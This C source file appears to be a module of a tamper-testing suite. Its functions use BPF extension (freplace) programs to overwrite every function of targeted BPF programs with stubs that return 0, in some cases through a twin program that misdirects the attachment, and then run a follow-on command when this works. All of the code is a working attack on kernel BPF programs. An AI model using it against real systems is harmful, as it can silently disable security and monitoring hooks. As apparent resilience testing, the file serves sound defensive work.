/* SPDX-License-Identifier: GPL-2.0-only */
/* Attacks by programs that take the place of a function of another program (BPF_PROG_TYPE_EXT). */
#include "attack-insn.h"

#include <linux/btf.h>
#include <stdio.h>
#include <stdlib.h>

#define FUNCTIONS_MAX 64

/* A program of ours, as one needs it to be replaced. */
struct target {
	struct bpf_prog_info info;
	struct bpf_func_info functions[FUNCTIONS_MAX];
	int fd, btf;
};

static int open_target(uint32_t id, struct target *t)
{
	*t = (struct target){ .fd = prog_by_id(id) };
	t->info.nr_func_info = FUNCTIONS_MAX;
	t->info.func_info = POINTER(t->functions);
	t->info.func_info_rec_size = sizeof(*t->functions);
	if (t->fd < 0 || info_of(t->fd, &t->info, sizeof(t->info)) < 0)
		return -1;
	t->btf = by_id(BPF_BTF_GET_FD_BY_ID, t->info.btf_id);
	return t->btf;
}

static int load_with_function(union bpf_attr *attr, int btf, uint32_t function)
{
	struct bpf_insn insns[] = { SET(0, 0), END };
	struct bpf_func_info info = { .insn_off = 0, .type_id = function };

	attr->prog_btf_fd = btf;
	attr->func_info = POINTER(&info);
	attr->func_info_cnt = 1;
	attr->func_info_rec_size = sizeof(info);
	return LOAD(attr, insns);
}

/* One of 0 for this function, of this program. */
static int load_replacement(int program, int btf, uint32_t function)
{
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_EXT,
				.attach_prog_fd = program,
				.attach_btf_id = function };

	return load_with_function(&attr, btf, function);
}

/* To another than it was loaded for. */
static int attach_replacement(int fd, int target, uint32_t function)
{
	union bpf_attr attr = { .link_create = { .prog_fd = fd, .target_fd = target } };

	((uint32_t *)&attr)[4] = function; /* its id in the target's BTF stands behind the flags */
	return BPF(BPF_LINK_CREATE, &attr);
}

/* A program of the attacker's that looks like it comes first, to be attached to the other later. */
static int replace_late(const struct target *t, uint32_t function)
{
	union bpf_attr attr = { .prog_type = t->info.type };
	int twin, fd;

	switch (t->info.type) {
	case BPF_PROG_TYPE_LSM:
		attr.expected_attach_type = BPF_LSM_CGROUP;
		attr.attach_btf_id = kernel_function("bpf_lsm_file_open");
		break;
	case BPF_PROG_TYPE_CGROUP_SYSCTL:
		attr.expected_attach_type = BPF_CGROUP_SYSCTL;
		break;
	case BPF_PROG_TYPE_SYSCALL:
		attr.prog_flags = 1U << 4; /* BPF_F_SLEEPABLE */
		break;
	case BPF_PROG_TYPE_TRACING:
		attr.expected_attach_type = BPF_TRACE_ITER;
		attr.attach_btf_id = kernel_function("bpf_iter_bpf_prog");
		break;
	}
	twin = load_with_function(&attr, t->btf, function);
	if (twin < 0)
		return tell("load a twin", twin), twin;
	fd = load_replacement(twin, t->btf, function);
	if (fd < 0)
		return tell("load for a twin", fd), fd;
	return attach_replacement(fd, t->fd, function);
}

static int replace_now(const struct target *t, uint32_t function)
{
	int fd = load_replacement(t->fd, t->btf, function);

	return fd < 0 ? fd : attach_program(fd);
}

static int replace_each(uint32_t id, bool late)
{
	struct target t;
	int r = COULD_NOT;

	if (open_target(id, &t) < 0)
		return tell("look at the program", -1);
	for (uint32_t i = 0; i < t.info.nr_func_info && i < FUNCTIONS_MAX; i++) {
		int one;

		printf("%s, function %u of %u: ", t.info.name, i, t.info.nr_func_info);
		one = tell("replace", late ? replace_late(&t, t.functions[i].type_id)
					   : replace_now(&t, t.functions[i].type_id));
		r = i == 0 ? one : better(r, one);
	}
	return r;
}

/* freplace PROGRAM [COMMAND...]: each of its functions; worked if it does with any */
static int attack_freplace(char **argv)
{
	int r = replace_each(atoi(argv[0]), false);

	return r == WORKED ? then(argv + 1) : r;
}

/* freplace-ours now|late [COMMAND...]: each function of each program of ours */
static int attack_freplace_ours(char **argv)
{
	struct ours o;
	int r = COULD_NOT;

	find_ours(&o);
	for (size_t i = 0; i < o.n_programs; i++) {
		int one = replace_each(o.programs[i], strcmp(argv[0], "late") == 0);

		r = i == 0 ? one : better(r, one);
	}
	return r == WORKED ? then(argv + 1) : r;
}

/* One of the attacker's own with a global function, to show that the rest of freplace works here.
 */
static int own_replaceable(int *ret_btf)
{
	static const char strings[] = "\0int\0unsigned int\0x\0f\0main\0";
	/* clang-format off */
	static const uint32_t types[] = {
		1, 1U << 24, 4, 0x01000020,	    /* [1] int */
		5, 1U << 24, 4, 0x00000020,	    /* [2] unsigned int */
		0, 13U << 24 | 1, 1, 18, 2,	    /* [3] int (unsigned int x) */
		20, 12U << 24 | 1, 3,		    /* [4] global f */
		0, 13U << 24, 1,		    /* [5] int (void) */
		22, 12U << 24 | 1, 5,		    /* [6] global main */
	};
	/* clang-format on */
	static struct {
		struct btf_header h;
		uint32_t types[sizeof(types) / 4];
		char strings[sizeof(strings)];
	} __attribute__((packed)) data;
	struct bpf_insn insns[] = {
		SET(1, 0), INSN(BPF_JMP | BPF_CALL, 0, BPF_PSEUDO_CALL, 0, 1), END, SET(0, 1), END,
	};
	struct bpf_func_info info[] = { { 0, 6 }, { 3, 4 } };
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_RAW_TRACEPOINT };

	data.h = (struct btf_header){ .magic = BTF_MAGIC,
				      .version = BTF_VERSION,
				      .hdr_len = sizeof(data.h),
				      .type_len = sizeof(types),
				      .str_off = sizeof(types),
				      .str_len = sizeof(strings) };
	memcpy(data.types, types, sizeof(types));
	memcpy(data.strings, strings, sizeof(strings));
	{
		union bpf_attr btf = { .btf = POINTER(&data), .btf_size = sizeof(data) };

		*ret_btf = BPF(BPF_BTF_LOAD, &btf);
	}
	attr.prog_btf_fd = *ret_btf;
	attr.func_info = POINTER(info);
	attr.func_info_cnt = 2;
	attr.func_info_rec_size = sizeof(info[0]);
	return LOAD(&attr, insns);
}

/* freplace-own now|late: of a program of the attacker's, or of its twin */
static int attack_freplace_own(char **argv)
{
	int btf, own = own_replaceable(&btf), twin = own_replaceable(&btf), fd,
		 r = tell("load", twin);

	if (r != WORKED)
		return r;
	fd = load_replacement(own, btf, 4);
	if (fd < 0)
		return tell("load for it", fd);
	return tell("replace", strcmp(argv[0], "late") == 0 ? attach_replacement(fd, twin, 4)
							    : attach_program(fd));
}

const struct attack freplace_attacks[] = {
	{ "freplace", 1, attack_freplace },
	{ "freplace-ours", 1, attack_freplace_ours },
	{ "freplace-own", 1, attack_freplace_own },
	{},
};
